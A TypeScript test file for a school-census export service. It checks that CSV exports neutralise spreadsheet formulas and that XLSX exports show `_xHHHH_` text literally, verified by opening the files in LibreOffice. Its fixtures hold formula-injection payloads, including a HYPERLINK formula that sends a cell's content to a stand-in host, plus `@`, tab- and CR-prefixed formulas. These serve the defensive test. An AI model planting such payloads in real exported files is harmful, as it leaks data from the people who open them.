// SPEC §3.5 (session 3): every CSV the project writes neutralises spreadsheet formulas the OWASP
// way, and the XLSX answers show a literal `_xHHHH_` as written. Proven the way the finding was
// made: the service's files opened by LibreOffice, which evaluates a formula cell of a CSV.
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../helpers/csv.js';
import { API_KEY, formWith, startTestServer, type TestServer, type UploadFile } from '../helpers/http.js';
import { createAuditsTable, createTestSchema, startTestPostgres, type TestPostgres, type TestSchema } from '../helpers/postgres.js';
import { onThisMachine } from '../helpers/deadline.js';

const run = promisify(execFile);

// Cells a hostile return can carry: formulas, a formula behind a tab or CR, DDE-style `@`, a
// live link that sends a cell's content out.
const HYPERLINK = '=HYPERLINK("http://exemplo.invalid/?"&A1;"clique")';
const HOSTILE_ROWS = [
  { codigo: HYPERLINK, campo: '@SUM(1;1)', conteudo: '=1+1 -- +55 11 99999' },
  { codigo: '-3+4', campo: '\t=2+2', conteudo: '\r=5+5 -- @A1' },
  { codigo: 'ALU_x000D_1', campo: 'Nome completo', conteudo: 'A_x000D_B -- C_x0041_D' },
];
const retornoOf = (rows: typeof HOSTILE_ROWS) =>
  JSON.stringify(
    rows.map((r, i) => ({
      Registro: '30',
      Linha: String(i + 2),
      'Código na Escola': r.codigo,
      Campo: r.campo,
      Mensagem: 'Diverge da base da Receita Federal.',
      Conteúdo: r.conteudo,
    })),
  );

// One person whose code, corrected name and mother's name are formulas.
const CENSO = ['00|123|1', '30|123|=A1|123456789012|52998224725|@NOME|14/03/2014|1|-MAE+1|PAI|'].join('\r\n') + '\r\n';
const RETORNO_PESSOA = JSON.stringify([
  {
    Registro: '30',
    Linha: '2',
    'Código na Escola': '=A1',
    Campo: 'Nome completo',
    Mensagem: 'Receita Federal',
    Conteúdo: '@NOME -- =2+2',
  },
]);

function soffice(): string {
  // A test that needs a program fails when it is missing, never passes silently: .ci/run installs it.
  const found = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p));
  expect(found, 'install libreoffice-calc-nogui (.ci/run does)').toBeDefined();
  return found!;
}

/** Opens `files` in LibreOffice (one start for all) and saves what their cells show as UTF-8 CSVs. */
async function shownByLibreOffice(work: string, files: readonly string[], infilter?: string): Promise<string[]> {
  const outdir = await mkdtemp(path.join(work, 'lo-out-'));
  const args = ['--headless', `-env:UserInstallation=file://${path.join(work, 'lo-profile')}`];
  if (infilter) args.push(`--infilter=${infilter}`);
  args.push('--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', outdir, ...files);
  await run(soffice(), args, { timeout: onThisMachine(150_000) });
  return Promise.all(files.map((file) => readFile(path.join(outdir, `${path.parse(file).name}.csv`), 'utf8')));
}

let work: string;
let server: TestServer;
let postgres: TestPostgres;
let schema: TestSchema;
beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'censo-sheets-'));
  postgres = await startTestPostgres();
  schema = await createTestSchema(postgres.url);
  await createAuditsTable(schema.admin);
  await schema.admin.query(
    `INSERT INTO audits (auditable_id, user_id, action, created_at) VALUES (1, 1, $1, '2024-03-01'), (2, 2, '-1', '2024-03-02'), (3, 3, E'\\t=3+3', '2024-03-03')`,
    [HYPERLINK],
  );
  server = await startTestServer({ DATABASE_URL: schema.url });
});
afterAll(async () => {
  await server?.dispose();
  await schema?.drop();
  await postgres?.stop();
  await rm(work, { recursive: true, force: true });
});

async function post(route: string, files: UploadFile[]): Promise<Buffer> {
  const response = await fetch(`${server.url}${route}`, { method: 'POST', headers: { 'x-api-key': API_KEY }, body: await formWith(files) });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

const retorno = (content: string): UploadFile => ({ field: 'retorno', content, filename: 'retorno.json' });

describe('CSV answers', () => {
  it(
    'prefix every cell that starts with = + - @ tab or CR with a quote, and LibreOffice evaluates none',
    { timeout: onThisMachine(180_000) },
    async () => {
      const divergencias = (await post('/api/divergencias-rf?format=csv', [retorno(retornoOf(HOSTILE_ROWS))])).toString('utf8');
      const pessoas = (
        await post('/api/retorno-rf?format=csv', [
          retorno(RETORNO_PESSOA),
          { field: 'txt', content: Buffer.from(CENSO, 'latin1'), filename: 'c.txt' },
        ])
      ).toString('utf8');
      const query = await (await fetch(`${server.url}/api/query?query=audits&format=csv`, { headers: { 'x-api-key': API_KEY } })).text();

      expect(parseCsv(divergencias).slice(1, 3)).toEqual([
        // A field the corrected file does not write (chave null): the form's to fix (SPEC §11).
        [`'${HYPERLINK}`, '2', `'@SUM(1;1)`, `'=1+1`, `'+55 11 99999`, 'false', '', 'formulario'],
        [`'-3+4`, '3', `'\t=2+2`, `'=5+5`, `'@A1`, 'false', '', 'formulario'],
      ]);
      expect(parseCsv(pessoas)[1]).toEqual([
        ...[`'=A1`, '2', '52998224725', `'=2+2`, '14/03/2014', '123456789012', `'-MAE+1`],
        // What the corrected file writes (issue 56): the txt's own name, guarded as well.
        ...['52998224725', `'@NOME`, '14/03/2014', '123456789012', `'-MAE+1`],
        ...['Nome: o valor da Receita Federal não cabe no layout do INEP', 'false'],
      ]);
      expect(
        parseCsv(query)
          .slice(1)
          .map((r) => r[3]),
      ).toEqual([`'${HYPERLINK}`, `'-1`, `'\t=3+3`]);

      // What LibreOffice shows for each file is exactly what the service wrote: nothing evaluated.
      const written = { divergencias, pessoas, consulta: query };
      const files = Object.keys(written).map((name) => path.join(work, `${name}.csv`));
      await Promise.all(Object.values(written).map((text, i) => writeFile(files[i]!, text)));
      const shownFiles = await shownByLibreOffice(work, files, 'CSV:44,34,76');
      for (const [i, text] of Object.values(written).entries()) {
        const shown = parseCsv(shownFiles[i]!);
        const asWritten = (cell: string) => (cell === 'FALSE' || cell === 'TRUE' ? cell.toLowerCase() : cell.replace(/\r\n?/g, '\n'));
        expect(shown.map((r) => r.map(asWritten))).toEqual(parseCsv(text).map((r) => r.map((cell) => cell.replace(/\r\n?/g, '\n'))));
      }
    },
  );

  it('keep JSON answers exactly as read', async () => {
    const json = JSON.parse((await post('/api/divergencias-rf', [retorno(retornoOf(HOSTILE_ROWS))])).toString('utf8'));
    type Item = { codigo_na_escola: string; campo: string; enviado: string };
    expect(json.divergencias.map((d: Item) => [d.codigo_na_escola, d.campo, d.enviado])).toEqual([
      [HYPERLINK, '@SUM(1;1)', '=1+1'],
      ['-3+4', '\t=2+2', '=5+5'],
      ['ALU_x000D_1', 'Nome completo', 'A_x000D_B'],
    ]);
  });
});

describe('XLSX answers', () => {
  it('show a literal _xHHHH_ as written, and formulas as text', { timeout: onThisMachine(180_000) }, async () => {
    const file = path.join(work, 'divergencias.xlsx');
    await writeFile(file, await post('/api/divergencias-rf?format=xlsx', [retorno(retornoOf(HOSTILE_ROWS))]));
    const [shownFile] = await shownByLibreOffice(work, [file]);
    const shown = parseCsv(shownFile!);
    expect(shown[1]!.slice(0, 5)).toEqual([HYPERLINK, '2', '@SUM(1;1)', '=1+1', '+55 11 99999']);
    expect(shown[3]!.slice(0, 5)).toEqual(['ALU_x000D_1', '4', 'Nome completo', 'A_x000D_B', 'C_x0041_D']);
  });
});
